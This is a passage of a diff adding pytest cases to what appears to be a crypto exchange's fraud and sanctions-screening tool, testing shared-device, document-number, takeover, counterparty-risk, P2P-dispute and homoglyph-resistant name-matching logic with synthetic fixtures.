@@ -4,6 +4,7 @@ import dataclasses
 import json
 import math
 import re
+import unicodedata
 from contextlib import closing
 from datetime import date, timedelta
 
@@ -112,6 +113,34 @@ def test_in_out_latency_is_the_median_wait_and_the_share_that_left_within_a_day(
     facts = ask("in_out_latency").facts
     assert facts["flow.in_out_hours"] == pytest.approx(4.0)
     assert facts["flow.passthrough_share"] == pytest.approx(160 / 400)
+    assert (facts["flow.deposits"], facts["flow.withdrawn_share"]) == (3, pytest.approx(170 / 400))
+
+
+def test_small_deposits_do_not_move_the_median_wait(exchange, ask):
+    exchange.deposit(exchange.ago(days=5), 7_000.0)
+    exchange.withdraw(exchange.ago(days=5, hours=-1), 6_900.0)
+    for minutes in (1, 2, 3):
+        exchange.deposit(exchange.ago(days=4, minutes=minutes), 1.0)
+    exchange.withdraw(exchange.ago(hours=2), 1.0)
+    assert ask("in_out_latency").facts["flow.in_out_hours"] == pytest.approx(1.0)
+
+
+def test_money_that_left_after_a_day_has_not_stayed(exchange, ask):
+    exchange.deposit(exchange.ago(days=5), 100.0)
+    exchange.deposit(exchange.ago(days=40), 100.0)
+    exchange.withdraw(exchange.ago(days=5, hours=-24.1), 90.0)
+    facts = ask("in_out_latency").facts
+    assert (facts["flow.passthrough_share"], facts["flow.withdrawn_share"]) == (0.0, pytest.approx(0.9))
+
+
+@pytest.mark.parametrize("usd", [None, 0.0])
+def test_of_no_deposits_no_share_is_withdrawn(exchange, ask, usd):
+    exchange.withdraw(exchange.ago(days=5), 9_900.0)
+    exchange.deposit(exchange.ago(days=6), usd) if usd is not None else None
+    found = ask("in_out_latency")
+    assert "flow.withdrawn_share" not in found.facts
+    assert found.facts["flow.deposits"] == 0
+    assert "flow.withdrawn_share: nothing was deposited in the last 30 days" in found.notes
 
 
 def test_one_withdrawal_after_two_deposits_is_not_counted_twice(exchange, ask):
@@ -124,7 +153,12 @@ def test_one_withdrawal_after_two_deposits_is_not_counted_twice(exchange, ask):
 def test_without_a_withdrawal_there_is_no_wait_and_a_note_says_so(exchange, ask):
     exchange.deposit(exchange.ago(days=1), 100.0)
     found = ask("in_out_latency")
-    assert found.facts == {"flow.deposits_followed": 0, "flow.passthrough_share": 0.0}
+    assert found.facts == {
+        "flow.deposits_followed": 0,
+        "flow.passthrough_share": 0.0,
+        "flow.deposits": 1,
+        "flow.withdrawn_share": 0.0,
+    }
     assert found.notes == ("flow.in_out_hours: no deposit of the last 30 days was followed by a withdrawal",)
 
 
@@ -136,6 +170,8 @@ def test_money_that_leaves_at_the_moment_it_came_has_left(exchange, ask):
         "flow.in_out_hours": 0.0,
         "flow.deposits_followed": 1,
         "flow.passthrough_share": 1.0,
+        "flow.deposits": 1,
+        "flow.withdrawn_share": 1.0,
     }
 
 
@@ -215,8 +251,8 @@ def test_shared_devices_tells_households_and_known_fraud_apart(exchange, ask):
         "device.confirmed_fraud_sharing": 1,
     }
     graph = json.loads(found.exhibits[0].content)
-    assert {node["label"] for node in graph["nodes"]} == {"C1", "mother", "mule", "D1"}
-    assert ["customer:C1", "emulator:D1", "logged in on"] in graph["edges"]
+    assert {node["label"] for node in graph["nodes"]} == {"C1", "mother", "mule", "d1"}
+    assert ["customer:C1", "emulator:d1", "logged in on"] in graph["edges"]
 
 
 def test_an_undescribed_device_may_be_an_emulator(exchange, ask):
@@ -232,7 +268,7 @@ def test_an_undescribed_device_may_be_an_emulator(exchange, ask):
     assert ask("shared_devices").facts["device.emulator"] is True
 
 
-@pytest.mark.parametrize("home", ["", "  ", None])
+@pytest.mark.parametrize("home", ["", "  ", None, "-", "N/A", "n.a.", "Berlin", "\u200b"])
 def test_two_unknown_homes_are_no_household(exchange, ask, home):
     exchange.rows["customers"][-1]["residence_address"] = home
     exchange.customer("mule", residence_address=home)
@@ -242,7 +278,36 @@ def test_two_unknown_homes_are_no_household(exchange, ask, home):
     assert (facts["device.accounts_sharing"], facts["device.household_share"]) == (1, 0.0)
 
 
-@pytest.mark.parametrize("device", [None, " "])
+@pytest.mark.parametrize(
+    ("mine", "theirs", "share"),
+    [
+        ("12 Main Street, Flat 3", "12, MAIN ST. 3", 1),
+        ("Lindenstraße 132", "Lindenstrasse\u00a0132", 1),
+        ("٣ شارع التحرير", "3 شارع التحرير", 1),
+        ("Main Street 12", "Main Street 13", 0),
+        ("Main Street 12", "Mill Street 12", 0),
+    ],
+)
+def test_a_home_is_the_same_however_it_is_written(exchange, ask, mine, theirs, share):
+    exchange.rows["customers"][-1]["residence_address"] = mine
+    exchange.customer("sister", residence_address=theirs)
+    for who in ("C1", "sister"):
+        exchange.login(exchange.ago(days=1), "D1", who=who)
+    assert ask("shared_devices").facts["device.household_share"] == share
+
+
+@pytest.mark.parametrize("theirs", ["{8F3A-22BC}", "8f3a-22bc", " 8F3A-22bc\u200b"])
+def test_a_device_is_the_same_however_its_id_is_written(exchange, ask, theirs):
+    exchange.add("devices", device_id=theirs.upper(), is_emulator=True)
+    exchange.login(exchange.ago(days=1), "8F3A-22BC")
+    exchange.login(exchange.ago(days=1), theirs, who="mule")
+    found = ask("shared_devices")
+    assert found.facts["device.accounts_sharing"] == 1
+    assert found.facts["device.emulator"] is True
+    assert ["customer:mule", "emulator:8f3a-22bc", "logged in on"] in json.loads(found.exhibits[0].content)["edges"]
+
+
+@pytest.mark.parametrize("device", [None, " ", "unknown", "N/A", "{00000000-0000-0000-0000-000000000000}"])
 def test_a_login_that_names_no_device_may_share_one(exchange, ask, device):
     exchange.login(exchange.ago(days=1), device)
     exchange.login(exchange.ago(days=1), device, who="stranger")
@@ -250,13 +315,15 @@ def test_a_login_that_names_no_device_may_share_one(exchange, ask, device):
     exchange.add("devices", device_id="D1", is_emulator=False)
     for who in ("C1", "mule", "other mule"):
         exchange.login(exchange.ago(days=1), "D1", who=who)
+    for number in range(4):
+        exchange.login(exchange.ago(days=1), "D1", who=f"mule {number}")
     assert ask("shared_devices").facts == {}, "a cluster may stand behind the few that are seen"
-    exchange.login(exchange.ago(days=1), "D1", who="third mule")
-    assert ask("shared_devices").facts == {"device.accounts_sharing": 3}
+    exchange.login(exchange.ago(days=1), "D1", who="last mule")
+    assert ask("shared_devices").facts == {"device.accounts_sharing": 7}
     exchange.customer("mother", residence_address="home C1")
     exchange.login(exchange.ago(days=1), "D1", who="mother")
     exchange.add("earlier_cases", customer_id="mule", opened_at=exchange.ago(days=3), outcome="confirmed_fraud")
-    assert ask("shared_devices").facts == {"device.accounts_sharing": 4, "device.confirmed_fraud_sharing": 1}
+    assert ask("shared_devices").facts == {"device.accounts_sharing": 8, "device.confirmed_fraud_sharing": 1}
 
 
 OUTCOMES = ((None, None), ("", None), ("pending", None), (" False_Positive", 0), ("Confirmed_fraud ", 1))
@@ -290,7 +357,7 @@ def test_blanks_around_an_address_are_no_other_address(exchange, ask):
     assert "friend" in found.exhibits[0].model_dump_json()
 
 
-@pytest.mark.parametrize("address", [None, ""])
+@pytest.mark.parametrize("address", [None, "", "n/a", "0x" + "0" * 40])
 def test_a_withdrawal_without_an_address_may_share_one(exchange, ask, address):
     exchange.withdraw(exchange.ago(days=2), 10.0, who="friend", chain_address=address)
     exchange.withdraw(exchange.ago(days=2), 10.0, chain_address=address, method="bank")
@@ -316,6 +383,31 @@ def test_shared_addresses_leaves_exchanges_out(exchange, ask):
     assert labels == {"C1", "wallet", "unlisted", "friend of wallet", "friend of unlisted"}
 
 
+@pytest.mark.parametrize(
+    ("kinds", "accounts", "shared"),
+    [
+        (["defi"], 2, 0),
+        ([" Exchange"], 2, 0),
+        (["defi", "scam"], 2, 1),
+        ([], 50, 49),
+        ([], 51, 0),
+        (["mixer"], 51, 0),
+        (["self_hosted"], 51, 50),
+    ],
+)
+def test_who_else_uses_a_service_is_a_stranger(exchange, ask, kinds, accounts, shared):
+    for kind in kinds:
+        exchange.add("chain_addresses", chain_address="shop", category=kind)
+    for number in range(accounts):
+        who = f"U{number}" if number else "C1"
+        exchange.withdraw(exchange.ago(days=2), 10.0, who=who, chain_address="shop")
+    exchange.withdraw(exchange.ago(days=-1), 10.0, who="later", chain_address="shop")
+    exchange.add("earlier_cases", customer_id="U1", opened_at=exchange.ago(days=3), outcome="confirmed_fraud")
+    found = ask("shared_addresses")
+    assert found.facts == {"address.accounts_sharing": shared, "address.confirmed_fraud_sharing": min(shared, 1)}
+    assert len(found.exhibits) == bool(shared)
+
+
 def test_shared_documents_by_number_and_by_picture(exchange, ask):
     mine = 0b1111_0000
     usual = {"submitted_at": exchange.ago(days=1), "document_country": "UTO"}
@@ -324,7 +416,11 @@ def test_shared_documents_by_number_and_by_picture(exchange, ask):
     exchange.add("kyc_submissions", customer_id="near", document_number="N1", image_hash=mine ^ 0b111, **usual)
     exchange.add("kyc_submissions", customer_id="far", document_number="N2", image_hash=mine ^ 0b1111, **usual)
     found = ask("shared_documents")
-    assert found.facts == {"document.accounts_sharing_number": 1, "document.accounts_sharing_template": 1}
+    assert found.facts == {
+        "document.accounts_sharing_number": 1,
+        "document.accounts_sharing_number_abroad": 0,
+        "document.accounts_sharing_template": 1,
+    }
     edges = json.loads(found.exhibits[0].content)["edges"]
     assert [edge[2] for edge in edges] == ["same document picture", "same document number"]
     assert {edge[0] for edge in edges} == {"customer:C1"}, "the page draws the ring around the first node"
@@ -333,7 +429,7 @@ def test_shared_documents_by_number_and_by_picture(exchange, ask):
 def test_without_a_submission_documents_cannot_be_compared(ask):
     found = ask("shared_documents")
     assert found.facts == {}
-    assert len(found.notes) == 2
+    assert len(found.notes) == 3
 
 
 def test_one_submission_does_not_speak_for_another(exchange, ask):
@@ -345,11 +441,15 @@ def test_one_submission_does_not_speak_for_another(exchange, ask):
     assert ask("shared_documents").facts == ask("shared_portraits").facts == {}
     for number in range(3):
         told = ask("shared_documents").facts | ask("shared_portraits").facts
-        assert "document.accounts_sharing_template" not in told
+        assert not {"document.accounts_sharing_template", "document.accounts_sharing_number_abroad"} & set(told)
         assert set(told.values()) <= {number}
         exchange.add("kyc_submissions", customer_id=f"twin {number}", submitted_at=exchange.ago(days=2), **whole)
     told = ask("shared_documents").facts | ask("shared_portraits").facts
     assert (len(told), set(told.values())) == (3, {3})
+
+
+ANOTHER = {"declared_name": "Ann Other", "declared_birth_date": date(1980, 1, 1)}
+"""Who shares neither name nor birth date with those that the exchange adds without."""
 
 
 @pytest.mark.parametrize(("mine", "theirs"), [(None, "UTO"), ("", "UTO"), ("UTO", None), ("UTO", "ABW")])
@@ -357,9 +457,83 @@ def test_a_number_of_no_known_country_may_be_the_same_document(exchange, ask, mi
     usual = {"submitted_at": exchange.ago(days=1), "document_number": "AB1", "image_hash": 0xF0F0}
     exchange.add("kyc_submissions", customer_id="C1", document_country=mine, **usual)
     assert ask("shared_documents").facts["document.accounts_sharing_number"] == 0
-    exchange.add("kyc_submissions", customer_id="twin", document_country=theirs, **usual)
+    exchange.add("kyc_submissions", customer_id="twin", document_country=theirs, **usual | ANOTHER)
     told = ask("shared_documents").facts.get("document.accounts_sharing_number")
     assert told == (0 if mine and theirs else None)
+
+
+@pytest.mark.parametrize(
+    ("mine", "theirs", "shared"),
+    [
+        ("K1O045I7", "kl0045-17", 0),
+        ("K1O045I7", "k10045-17", 1),
+        ("Ｋ１２３４０", "K12340", 1),
+        ("K12340", "K١٢٣٤٠", 1),
+        ("АК123450", "AK123450", 1),
+        ("ЖК123450", "123450", None),
+        ("ЖК123450", "ЖК 123450", 1),
+        ("N/A", "N/A", None),
+        ("unknown", "unknown", None),
+        ("000000", "000000", None),
+        ("XXXX", "XXXX", None),
+        ("123456789", "123456789", None),
+        ("１２３４５６７", "１２３４５６７", None),
+        ("1234560", "1234560", 1),
+    ],
+)
+def test_a_document_number_is_the_same_however_its_signs_are_written(exchange, ask, mine, theirs, shared):
+    usual = {"submitted_at": exchange.ago(days=1), "document_country": "UTO"}
+    exchange.add("kyc_submissions", customer_id="C1", document_number=mine, **usual)
+    exchange.add("kyc_submissions", customer_id="other", document_number=theirs, **usual)
+    assert ask("shared_documents").facts.get("document.accounts_sharing_number") == shared
+
+
+NAMESAKE = {"declared_name": "Anna-Maria O'Example"}
+
+
+@pytest.mark.parametrize(
+    ("number", "other", "shared", "abroad"),
+    [
+        ("K12345670", ANOTHER, 0, 1),
+        ("K1234567", ANOTHER, 0, 0),
+        ("K1234567", ANOTHER | NAMESAKE, 1, 0),
+        ("K1234567", {"declared_name": "Ann Other"}, 1, 0),
+        ("K12345670", ANOTHER | {"declared_birth_date": None}, None, None),
+        ("K12345670", ANOTHER | {"declared_name": " "}, None, None),
+    ],
+)
+def test_a_number_of_two_countries_is_one_document_in_one_name_and_else_may_be_chance(
+    exchange, ask, number, other, shared, abroad
+):
+    usual = {"submitted_at": exchange.ago(days=1), "document_number": number}
+    exchange.add(
+        "kyc_submissions", customer_id="C1", document_country="DEU", **usual, declared_name="ANNA MARIA OEXAMPLE"
+    )
+    exchange.add("kyc_submissions", customer_id="other", document_country="AUT", **usual | other)
+    found = ask("shared_documents")
+    assert found.facts.get("document.accounts_sharing_number") == shared
+    assert found.facts.get("document.accounts_sharing_number_abroad") == abroad
+    exchange.add("kyc_submissions", customer_id="third", document_country="AUT", **usual | ANOTHER)
+    assert ask("shared_documents").facts.get("document.accounts_sharing_number_abroad") == (
+        (abroad or 0) + 1 if len(number) == 9 else abroad
+    )
+
+
+def test_a_picture_whose_hash_is_nought_is_nobodys(exchange, ask):
+    nought = {"submitted_at": exchange.ago(days=1), "image_hash": 0, "portrait_hash": 0}
+    for who in ("C1", "other"):
+        exchange.add("kyc_submissions", customer_id=who, **nought)
+    told = ask("shared_documents").facts | ask("shared_portraits").facts
+    assert not {"document.accounts_sharing_template", "document.accounts_sharing_portrait"} & set(told)
+
+
+def test_a_false_positive_of_long_ago_no_longer_clears(exchange, ask):
+    for days in (10, 729, 731):
+        exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=days), outcome="false_positive")
+    facts = {"earlier.confirmed_fraud": 0, "earlier.false_positive": 2, "earlier.total": 3}
+    assert ask("earlier_cases").facts == facts
+    exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=900), outcome="pending")
+    assert ask("earlier_cases").facts == {"earlier.false_positive": 2, "earlier.total": 4}
 
 
 def test_shared_portraits_by_hash(exchange, ask):
@@ -438,6 +612,7 @@ def test_a_takeover_shows_in_device_reset_address_and_share(exchange, ask):
         "takeover.reset_before_withdrawal": True,
         "takeover.new_address": True,
         "takeover.withdrawn_share": pytest.approx(0.75),
+        "takeover.untraced_share": 0.0,
     }
 
 
@@ -454,7 +629,38 @@ def test_an_ordinary_withdrawal_is_no_takeover(exchange, ask):
         "takeover.reset_before_withdrawal": False,
         "takeover.new_address": False,
         "takeover.withdrawn_share": pytest.approx(0.1),
+        "takeover.untraced_share": 0.0,
     }
+
+
+@pytest.mark.parametrize("method", ["bank", "card", "p2p", "chain"])
+def test_money_that_goes_to_no_chain_address_goes_where_no_record_tells(exchange, ask, method):
+    exchange.deposit(exchange.ago(days=100), 1_000.0)
+    exchange.withdraw(exchange.ago(days=50), 200.0, chain_address="wallet")
+    exchange.withdraw(exchange.ago(days=1), 200.0, chain_address="wallet")
+    assert ask("new_device_withdrawal").facts["takeover.untraced_share"] == 0.0
+    exchange.withdraw(exchange.ago(hours=5), 400.0, method=method, chain_address=None)
+    facts = ask("new_device_withdrawal").facts
+    assert facts["takeover.untraced_share"] == pytest.approx(0.5)
+    assert facts["takeover.withdrawn_share"] == pytest.approx(0.75)
+
+
+def test_of_an_empty_account_whatever_left_untraced_is_all(exchange, ask):
+    exchange.withdraw(exchange.ago(hours=5), 5.0, chain_address="wallet")
+    assert ask("new_device_withdrawal").facts["takeover.untraced_share"] == 0.0
+    exchange.withdraw(exchange.ago(hours=4), 5.0, method="bank")
+    assert ask("new_device_withdrawal").facts["takeover.untraced_share"] == 1.0
+
+
+@pytest.mark.parametrize(
+    ("days", "usd", "new"), [(29, 5.0, True), (31, 5.0, False), (8, 99.0, True), (8, 100.0, False), (6, 900.0, True)]
+)
+def test_an_address_is_not_used_before_for_a_small_sum_of_late(exchange, ask, days, usd, new):
+    exchange.deposit(exchange.ago(days=100), 9_000.0)
+    exchange.withdraw(exchange.ago(days=days), usd, chain_address="wallet")
+    for hours in (1, 2):
+        exchange.withdraw(exchange.ago(hours=hours), 500.0, chain_address="wallet")
+    assert ask("new_device_withdrawal").facts["takeover.new_address"] is new
 
 
 def _new_device(ask):
@@ -465,9 +671,21 @@ def _new_device(ask):
 
 @pytest.mark.parametrize("used", ["phone", None, " "])
 def test_the_first_device_of_an_account_is_not_new(exchange, ask, used):
+    exchange.rows["customers"][-1]["created_at"] = exchange.ago(days=3)
     exchange.login(exchange.ago(hours=5), "phone")
     exchange.withdraw(exchange.ago(hours=3), 90.0, device_id=used)
     assert _new_device(ask) == (None, 0)
+
+
+@pytest.mark.parametrize(("created", "since", "told"), [(800, 0.1, None), (800, 8, 0), (7, 0.1, 0), (8, 0.1, None)])
+def test_the_first_login_on_record_of_an_old_account_may_be_a_strangers(exchange, ask, created, since, told):
+    exchange.rows["customers"][-1]["created_at"] = exchange.ago(days=created)
+    exchange.login(exchange.ago(days=since), "phone")
+    exchange.withdraw(exchange.ago(hours=1), 90.0, device_id="phone")
+    assert _new_device(ask) == (None, told)
+    exchange.login(exchange.ago(hours=0.9), "tablet")
+    exchange.withdraw(exchange.ago(hours=0.1), 90.0, device_id="tablet")
+    assert (_new_device(ask)[1] is None) is (told is None)
 
 
 @pytest.mark.parametrize("used", [None, "", "phone", "unseen"])
@@ -542,15 +760,51 @@ def test_counterparty_risk_over_deposits_and_withdrawals(exchange, ask):
         "counterparty.max_risk": 0.9,
         "counterparty.risky_usd": 150.0,
         "counterparty.risky_share": 0.75,
+        "counterparty.grave_usd": 150.0,
         "counterparty.sanctioned": True,
     }
+
+
+@pytest.mark.parametrize("score", [0.1, 0.69, None])
+@pytest.mark.parametrize(
+    ("category", "risky"), [("Mixer ", 1), ("scam", 1), ("darknet", 1), ("sanctioned", 1), ("defi", 0)]
+)
+def test_some_categories_are_risky_whatever_the_score(exchange, ask, category, score, risky):
+    exchange.add("chain_addresses", chain_address="there", risk_score=score, category=category)
+    exchange.withdraw(exchange.ago(days=1), 400.0, chain_address="there")
+    facts = ask("counterparty_risk").facts
+    assert facts["counterparty.grave_usd"] == 400.0 * risky
+    known = risky or score is not None
+    assert facts.get("counterparty.risky_usd") == (400.0 * risky if known else None)
+    assert facts.get("counterparty.risky_share") == (risky if known else None)
+    assert facts.get("counterparty.max_risk") == score
+
+
+@pytest.mark.parametrize(("usd", "told"), [(9_999.0, None), (10_000.0, 10_000.0)])
+def test_a_grave_sum_is_told_although_of_others_nothing_is_known(exchange, ask, usd, told):
+    exchange.add("chain_addresses", chain_address="bad", risk_score=0.3, category="scam")
+    exchange.withdraw(exchange.ago(days=1), usd, chain_address="bad")
+    exchange.withdraw(exchange.ago(days=1), 90_000.0, chain_address="nobody knows")
+    assert ask("counterparty_risk").facts.get("counterparty.grave_usd") == told
+
+
+def test_a_sanctioned_address_is_sanctioned_however_long_ago(exchange, ask):
+    exchange.add("chain_addresses", chain_address="listed", risk_score=1.0, category="sanctioned")
+    exchange.withdraw(exchange.ago(days=200), 5.0, chain_address="nobody knows")
+    assert ask("counterparty_risk").facts["counterparty.sanctioned"] is False
+    exchange.withdraw(exchange.ago(days=91), 80_000.0, chain_address="listed")
+    facts = ask("counterparty_risk").facts
+    assert facts["counterparty.sanctioned"] is True
+    assert (facts["counterparty.max_risk"], facts["counterparty.grave_usd"]) == (0.0, 0.0)
+    exchange.withdraw(exchange.ago(days=1), 5.0, chain_address="nobody knows")
+    assert ask("counterparty_risk").facts == {"counterparty.sanctioned": True}
 
 
 def test_an_unlisted_counterparty_is_unknown_and_none_at_all_is_no_risk(exchange, ask):
     assert ask("counterparty_risk").facts["counterparty.max_risk"] == 0.0
     exchange.deposit(exchange.ago(days=1), 100.0, chain_address="nobody knows")
     found = ask("counterparty_risk")
-    assert (found.facts, len(found.notes)) == ({}, 4)
+    assert (found.facts, len(found.notes)) == ({}, 5)
 
 
 @pytest.mark.parametrize("address", ["nobody knows", None, ""])
@@ -587,9 +841,50 @@ def test_p2p_disputes_counts_both_sides_and_what_was_known_at_the_flag(exchange,
         "p2p.orders": 4,
         "p2p.disputes": 1,
         "p2p.disputes_lost": 1,
-        "p2p.dispute_rate": 0.25,
+        "p2p.dispute_rate": 1.0,
         "p2p.payer_name_mismatches": 1,
+        "p2p.many_payer_names": False,
     }
+
+
+def _order(exchange, partner="B", days=1.0, **cells):
+    usual = {"payer_name_matches": True, "status": "completed", "dispute_opened_at": None, "lost_by": None}
+    parties = {"buyer_id": "C1", "seller_id": partner, "at": exchange.ago(days=days)}
+    exchange.add("p2p_orders", **(parties | usual | cells))
+
+
+def test_many_orders_with_a_friend_do_not_hide_disputes_with_others(exchange, ask):
+    for place in range(5):
+        _order(exchange, f"P{place}", status="disputed", lost_by="C1")
+        for _ in range(10):
+            _order(exchange, "friend", amount_usd=5.0)
+    for nobody in (None, "", "friend"):
+        _order(exchange, nobody)
+    facts = ask("p2p_disputes").facts
+    assert (facts["p2p.orders"], facts["p2p.disputes_lost"]) == (58, 5)
+    assert facts["p2p.dispute_rate"] == pytest.approx(5 / 7), "who is not named is one of them"
+
+
+@pytest.mark.parametrize(("lost_by", "disputes", "lost"), [(None, 0, 0), (" ", 0, 0), ("B", 1, 0), ("C1", 1, 1)])
+def test_what_somebody_lost_was_a_dispute(exchange, ask, lost_by, disputes, lost):
+    _order(exchange, lost_by=lost_by)
+    facts = ask("p2p_disputes").facts
+    assert (facts["p2p.disputes"], facts["p2p.disputes_lost"]) == (disputes, lost)
+
+
+@pytest.mark.parametrize(("since", "disputes"), [(None, None), (92, None), (90, None), (3, 1), (-1, None)])
+def test_an_old_order_counts_where_the_dispute_is_of_late(exchange, ask, since, disputes):
+    at = None if since is None else exchange.ago(days=since)
+    _order(exchange, days=95, status="disputed", dispute_opened_at=at, lost_by="C1")
+    facts = ask("p2p_disputes").facts
+    assert (facts["p2p.orders"], facts["p2p.disputes_lost"]) == (disputes or 0, disputes or 0)
+
+
+@pytest.mark.parametrize(("others", "uncompared", "many"), [(9, 0, False), (9, 1, None), (8, 1, False), (10, 5, True)])
+def test_orders_in_other_names_are_many_from_ten_on(exchange, ask, others, uncompared, many):
+    for matches in [False] * others + [None] * uncompared:
+        _order(exchange, payer_name_matches=matches)
+    assert ask("p2p_disputes").facts.get("p2p.many_payer_names") is many
 
 
 @pytest.mark.parametrize(
@@ -764,10 +1059,7 @@ def test_name_screening_reads_aliases_and_the_declared_name(exchange, ask):
     assert found.facts["screening.sanctions_score"] > 0.95
     assert found.facts["screening.country_agrees"] is False
     assert "screening.birth_date_agrees" not in found.facts
-    assert (
-        "screening.pep_score: there is no list of politically exposed persons in the warehouse, or no name to look for"
-        in found.notes
-    )
+    assert any(note.startswith("screening.pep_score: there is no list of politically exposed") for note in found.notes)
 
 
 @pytest.mark.parametrize(("mine", "listed"), [("", ""), ("UTO", " "), ("", "UTO"), (None, "UTO")])
@@ -821,6 +1113,231 @@ def test_a_namesake_does_not_hide_the_entry_with_the_customers_birth_date(exchan
     assert (found["screening.birth_date_agrees"], found["screening.country_agrees"]) == (True, False)
 
 
+def _screened(exchange, ask, name, listed, declared=None, **entry):
+    exchange.rows["customers"][-1].update(full_name=name, birth_date=date(1965, 7, 4), nationality="UTO")
+    if declared:
+        exchange.add("kyc_submissions", customer_id="C1", submitted_at=exchange.ago(days=1), declared_name=declared)
+    _listed(exchange, listed, **({"born": date(1940, 5, 6)} | entry))
+    _listed(exchange, "Quentin Quillfeather", born=date(1933, 3, 3))
+    return ask("name_screening").facts
+
+
+@pytest.mark.parametrize(
+    ("name", "listed", "score"),
+    [
+        ("Vik\u03bf\u03c2 M\u03bfr\u03bfzenk\u03bf", "Vikos Morozenko", 1.0),
+        ("محمد الظواهري", "محمد الظواهري", 1.0),
+        ("محمد الظواهري Jr", "محمد الظواهري", 0.8),
+        ("金正恩", "金正恩", 1.0),
+        ("محمد Anna Example", "Anna Example", 0.85),
+        ("محمد الظواهري", "Muhammad al Zawahiri", None),
+        ("محمد Smith", "محمد الظواهري", None),
+        ("Vɩktor M\u1d0fr\u1d0fzenk\u1d0f", "Viktor Anatolyevich Morozenko", None),
+        ("Anna ☺ Nobody", "Viktor Morozenko", None),
+        ("Seán O´Brien", "Sean OBrien", 1.0),
+    ],
+)
+def test_letters_that_cannot_be_compared_are_no_clean_name(exchange, ask, name, listed, score):
+    facts = _screened(exchange, ask, name, listed)
+    told = facts.get("screening.sanctions_score")
+    assert (told is None) == (score is None)
+    assert score is None or told >= score
+
+
+def test_one_name_that_can_be_compared_does_not_speak_for_one_that_cannot(exchange, ask):
+    _listed(exchange, "Quentin Quill", kind="pep")
+    facts = _screened(exchange, ask, "أيمن الظواهري", "Ayman al Zawahiri", declared="John Smith")
+    assert facts == {"screening.entries_uncompared": 0}
+
+
+def test_entries_in_letters_that_cannot_be_compared_are_counted(exchange, ask):
+    for name, aliases in (("محمد الظواهري", ""), ("金正恩", "Kim Jong-un"), ("გიორგი", "金正恩")):
+        _listed(exchange, name, aliases=aliases)
+    assert _screened(exchange, ask, "Anna Example", "Carla Neumann")["screening.entries_uncompared"] == 2
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "Mr Viktor Morozenko",
+        "Dr. Viktor Morozenko",
+        "Viktor Morozenko Junior Smith",
+        "Viktor Petrovich Morozenko",
+        "Sheikh Viktor Morozenko",
+        "Viktor A. Morozenko",
+        "MOROZENKO, VIKTOR A.",
+        "V. Morozenko",
+        "ViktorMorozenko",
+        "MorozenkoViktor",
+        "Vik tor Moro zenko",
+        "V i k t o r M o r o z e n k o",
+    ],
+)
+def test_a_title_an_initial_a_blank_or_one_word_for_another_hides_nothing(exchange, ask, name):
+    facts = _screened(exchange, ask, name, "Viktor Anatolyevich Morozenko")
+    assert 0.85 <= facts["screening.sanctions_score"] < 1.0
+
+
+@pytest.mark.parametrize(
+    ("name", "listed"),
+    [
+        ("Viktor Petrovich Lukin", "Viktor Anatolyevich Morozenko"),
+        ("Viktor Anatolyevich Lukin", "Pavel Anatolyevich Morozenko"),
+        ("Abu al Masri Hamid", "Abu al Libi Karim"),
+        ("Ana bin Ali Lukin", "Eva bin Ali Morozenko"),
+        ("Maria Lopez Garcia Ruiz", "Maria Garcia Fernandez Blanco"),
+        ("Mr Quill", "Mr Viktor"),
+    ],
+)
+def test_who_shares_one_word_or_small_ones_alone_is_no_hit(exchange, ask, name, listed):
+    assert _screened(exchange, ask, name, listed)["screening.sanctions_score"] < 0.85
+
+
+def test_a_title_is_a_word_of_a_name_that_has_no_two_others(exchange, ask):
+    assert _screened(exchange, ask, "Said Sayed", "Sayed Said")["screening.sanctions_score"] == 1.0
+
+
+def test_with_the_birth_date_of_the_entry_a_lower_likeness_counts(exchange, ask):
+    facts = _screened(exchange, ask, "Muhammed Ezzevahiri", "Muhammad al Zawahiri", born=date(1965, 7, 4))
+    assert 0.75 <= facts["screening.dated_score"] < 0.85
+    for born in (date(1940, 5, 6), date(1965, 7, 5), None):
+        exchange.rows["watchlist"].clear()
+        facts = _screened(exchange, ask, "Muhammed Ezzevahiri", "Muhammad al Zawahiri", born=born)
+        assert facts["screening.dated_score"] == 0
+
+
+@pytest.mark.parametrize(
+    ("born", "agrees"),
+    [
+        (date(1965, 7, 4), True),
+        (date(1965, 4, 7), None),
+        (date(1965, 7, 5), None),
+        (date(1965, 7, 14), None),
+        (date(1966, 7, 4), None),
+        (date(1965, 1, 1), None),
+        (date(1966, 1, 1), False),
+        (date(1965, 7, 13), False),
+        (date(1966, 4, 7), False),
+        (date(1965, 12, 24), False),
+    ],
+)
+def test_birth_dates_that_a_slip_parts_neither_agree_nor_disagree(exchange, ask, born, agrees):
+    facts = _screened(exchange, ask, "Anna Example", "Anna Example", born=born)
+    assert facts.get("screening.birth_date_agrees") is agrees
+    assert facts["screening.dated_score"] == (1.0 if agrees else 0.0)
+
+
+def test_who_is_known_to_be_born_in_a_year_may_be_born_on_any_day_of_it(exchange, ask):
+    exchange.rows["customers"][-1].update(full_name="Anna Example", birth_date=date(1965, 1, 1))
+    _listed(exchange, "Anna Example", born=date(1965, 9, 30))
+    assert "screening.birth_date_agrees" not in ask("name_screening").facts
+
+
+def test_names_that_nothing_is_alike_to_are_compared_by_letters_alone_and_hits_are_not(exchange, ask):
+    for place, name in enumerate(("Viktor Morozenko", "Wiktor Morosenko Petrow", "Viktoria Moroz", "Bertram Neumann")):
+        exchange.rows["watchlist"].clear()
+        _screened(exchange, ask, "Viktor Morozenko", name)
+        rough, fine = (
+            ask("name_screening", rough_below=below).facts["screening.sanctions_score"] for below in (0.7, 0.0)
+        )
+        assert rough == fine if place < 3 else rough <= fine < 0.7
+
+
+def _persons(exchange, ask, mine=None, **others):
+    """What is told of an account, with other accounts by their names."""
+    me = {"full_name": "Ann Example", "birth_date": date(1980, 2, 3), "email": "ann@mail.example", "phone": "+49 170 1"}
+    exchange.rows["customers"][-1].update(me | (mine or {}))
+    exchange.rows["customers"][0].update(full_name="Z", birth_date=None, email=None, phone=None)
+    for name, cells in others.items():
+        empty = {"full_name": name, "birth_date": date(1971, 1, 2), "email": f"{name}@there.example", "phone": None}
+        exchange.customer(name, **(empty | cells))
+    return ask("same_person")
+
+
+@pytest.mark.parametrize(
+    ("name", "born", "same"),
+    [
+        ("EXAMPLE, Ánn", date(1980, 2, 3), 1),
+        ("ann  example", date(1980, 2, 3), 1),
+        ("Ann Example", date(1980, 2, 4), 0),
+        ("Ann Example", None, 0),
+        ("Ann Maria Example", date(1980, 2, 3), 0),
+    ],
+)
